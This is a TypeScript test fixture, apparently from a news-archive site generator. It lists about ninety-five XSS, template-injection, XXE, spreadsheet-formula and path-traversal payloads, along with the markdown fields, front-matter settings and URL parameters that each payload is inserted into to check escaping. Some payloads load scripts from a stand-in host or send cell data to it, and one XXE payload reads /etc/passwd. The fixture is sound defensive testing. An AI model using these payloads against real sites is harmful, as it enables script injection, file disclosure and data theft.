// Strings that mean harm, and the places of a content folder into which each of them is put.

/** What an attack does when it succeeds: it leaves this mark on the page, or a file of this name on the disk. */
export const mark = 'attackSucceeded';

/** A host that no page of ours may ever ask for anything. */
export const stranger = 'https://fremd.example';

const run = `window.${mark}=1`;
const script = `<script>${run}</script>`;
const image = `<img src=x onerror=${run}>`;

/** Each by its name; all differ, and each would harm a program that forgets one kind of escaping. */
export const attacks: readonly (readonly [name: string, text: string])[] = [
  // Elements that run something.
  ['script', script],
  ['script in mixed case', `<ScRiPt >${run}</sCrIpT\t>`],
  ['script with a slash', `<script/x>${run}</script/x>`],
  ['script from a stranger', `<script src="${stranger}/a.js"></script>`],
  ['image with a handler', image],
  ['image without quotation marks or spaces', `<img/src=x/onerror=${run}>`],
  ['unclosed tag', `<img src=x onerror=${run} `],
  ['svg with a handler', `<svg onload=${run}>`],
  ['script in svg', `<svg><script>${run}</script></svg>`],
  ['animation', `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`],
  ['link in svg', `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`],
  ['link in math', `<math href="javascript:${run}">x</math>`],
  ['details', `<details open ontoggle=${run}>`],
  ['field in focus', `<input autofocus onfocus=${run}>`],
  ['source of a video', `<video><source onerror=${run}></video>`],
  ['body', `<body onload=${run}>`],
  ['frame with a document', `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`],
  ['frame with an address', `<iframe src="javascript:parent.${mark}=1"></iframe>`],
  ['object', `<object data="data:text/html,${script}"></object><embed src="${stranger}/e.swf">`],
  ['form', `<form action="${stranger}/"><button formaction="javascript:${run}">x</button></form>`],
  // The end of what stands around the text.
  ['end of the title', `</title>${script}`],
  ['end of a script', `</script>${script}`],
  ['end of JSON in a script', `"}</script>${script}`],
  ['end of a textarea', `</textarea></style></noscript>${script}`],
  ['end of an attribute', `"><script>${run}</script>`],
  ['end of an attribute in single marks', `'>${image}`],
  ['end of an attribute in back ticks', `\`>${image}`],
  ['another attribute', `" autofocus onfocus="${run}" x="`],
  ['another attribute in single marks', `' onmouseover='${run}' x='`],
  ['comment', `<!--${script}`],
  ['comment and script', `<!--<script>${run}`],
  ['end of a comment', `-->${script}<!--`],
  ['comment that ends at once', `<!-->${script}-->`],
  ['end of CDATA', `]]>${script}<![CDATA[`],
  ['CDATA', `<![CDATA[${script}]]>`],
  ['instruction of XML', `<?xml-stylesheet type="text/xsl" href="${stranger}/a.xsl"?>`],
  ['element of XHTML', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`],
  ['external entity', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`],
  ['end of a string of JavaScript', `";${run};//`],
  ['end of an escaped string of JavaScript', `\\";${run};//`],
  ['end of a call', `'});${run};({x:'`],
  ['line separator', `\u2028${run}\u2029//`],
  // What turns into something else when it is read twice.
  [
    'mutation in math',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;${image.slice(1, -1)}&gt;">`,
  ],
  ['mutation in noscript', `<noscript><p title="</noscript>${image}">`],
  ['mutation in svg', `<svg></p><style><a id="</style>${image}">`],
  ['mutation in forms', `<form><math><mtext></form><form><mglyph><style></math>${image}`],
  ['entities', `&lt;script&gt;${run}&lt;/script&gt;`],
  ['entities twice', `&amp;lt;img src=x onerror=${run}&amp;gt;`],
  ['numbered entities', `&#60;img src=x onerror=${run}&#x3e;`],
  ['null bytes', `<scr\0ipt>${run}</scr\0ipt>\0<img src=x onerror\0=${run}>`],
  ['escapes of JavaScript', `\\u003cimg src=x onerror=${run}\\u003e`],
  ['signs of full width', `\uff1cscript\uff1e${run}\uff1c/script\uff1e`],
  ['UTF-7', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
  ['overlong', `${'A'.repeat(5000)}${script}`],
  ['thousands of brackets', '<b '.repeat(1500)],
  // Addresses.
  ['address that runs', `javascript:${run}`],
  ['address in mixed case', `JaVaScRiPt:${run}`],
  ['address with a tab', `java\tscript:${run}`],
  ['address with a line end', `java\nscript:${run}`],
  ['address behind a control character', `\u0001javascript:${run}`],
  ['address with an entity', `javascript&colon;${run}`],
  ['address with numbered entities', `&#106;&#97;vascript:${run}`],
  ['address with percent signs', `javascript%3A${run}`],
  ['address of data', `data:text/html,${script}`],
  ['address of data in base64', `data:text/html;base64,${Buffer.from(script).toString('base64')}`],
  ['address of vbscript', 'vbscript:msgbox(1)'],
  ['address without a scheme', '//fremd.example/a'],
  ['address with backslashes', '\\\\fremd.example\\a'],
  // What asks a stranger, or leads there.
  ['picture of a stranger', `<img src="${stranger}/pixel.png">`],
  ['style of a stranger', `<link rel=stylesheet href="${stranger}/a.css"><style>@import "${stranger}/b.css";</style>`],
  ['base', `<base href="${stranger}/">`],
  ['refresh', `<meta http-equiv="refresh" content="0;url=${stranger}/">`],
  // Markdown.
  ['link of markdown', `[x](javascript:${run})`],
  ['picture of markdown', `![x](${stranger}/pixel.png "t" onerror=${run})`],
  ['reference of markdown', `[x]: javascript:${run}`],
  ['address in brackets', `<javascript:${run}>`],
  ['code of markdown', `\`\`\`"><script>${run}</script>`],
  // Templates.
  ['template of Nunjucks', '{{ range.constructor("return process")().exit(7) }}'],
  ['template of Liquid', '{% include "/etc/passwd" %}{{ 7 | times: 7 }}'],
  ['template of EJS', '<%= process.exit(7) %><%- 7*7 %>'],
  ['template of JavaScript', `\${process.exit(7)}\${7*7}`],
  ['template of Handlebars', '{{#with "s" as |string|}}{{{lookup string "sub"}}}{{/with}}'],
  ['template of Pug', `#{7*7}!{7*7}\n- ${run}`],
  ['template of Vue', `{{$on.constructor('${run}')()}}`],
  // Names that are something else in an object, in a table or on a screen.
  ['prototype', '__proto__'],
  ['constructor', 'constructor'],
  ['method of every object', 'hasOwnProperty'],
  ['formula', `=HYPERLINK("${stranger}/?"&A1;"x")`],
  ['command in a formula', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['formula in the next cell', `a;=HYPERLINK("${stranger}");b`],
  ['turned direction', '\u202e>tpircs<\u2066\u2067\u2068 niam'],
  ['look-alike letters', 'https://n\u0430chlese.ex\u0430mple/'],
  ['way up', '../../../../../../tmp/attackSucceeded'],
  ['way up with percent signs', '..%2f..%2f..%2ftmp%2fattackSucceeded'],
];

/** Fields of an article that take any text. */
export const textFields = ['title', 'lead', 'section'] as const;
export const correctionFields = ['what', 'why', 'before'] as const;
export const listFields = ['authors', 'sources', 'persons', 'places', 'organisations', 'topics'] as const;

/** Where markdown may have an attack, each a way to write it. */
export const bodies: readonly (readonly [place: string, write: (text: string) => string])[] = [
  ['as it is', (text) => text],
  ['destination of a link', (text) => `[Verweis](${text})`],
  ['destination in brackets', (text) => `[Verweis](<${text}>)`],
  ['title of a link', (text) => `[Verweis](https://web.example/ "${text}")`],
  ['words of a link', (text) => `[${text}](https://web.example/)`],
  ['picture', (text) => `![${text}](${text})`],
  ['address in brackets', (text) => `<${text}>`],
  ['reference', (text) => `[Beleg][]\n\n[Beleg]: ${text}`],
  ['heading', (text) => `## ${text}`],
  ['quotation', (text) => `> ${text}`],
  ['item', (text) => `- ${text}`],
  ['cell', (text) => `| ${text} | b |\n|---|---|\n| ${text} | b |`],
  ['code', (text) => `\`\`\`${text}\n${text}\n\`\`\``],
  ['code in a line', (text) => `\`${text}\``],
];

/** Parameters that the search page and the pages of articles read from their addresses. */
export const parameters =
  'q jahr rubrik quelle thema person ort organisation zeit abschnitt anteil tabelle ordnung zeige markiert'.split(' ');

/** Settings of archive.yaml, front matter and rules that reach every page; each holds all attacks. */
export const settings = ['title', 'description', 'publisher', 'rights', 'text page', 'story', 'register'] as const;

/** How many attacks the walk through the site tries: each string in each field, each way of markdown, each parameter. */
export function countAttacks(): number {
  const fields = textFields.length + listFields.length + correctionFields.length;
  const places = fields + bodies.length + parameters.length + settings.length + 1;
  return attacks.length * places; // one more: the address of a page that is not there
}
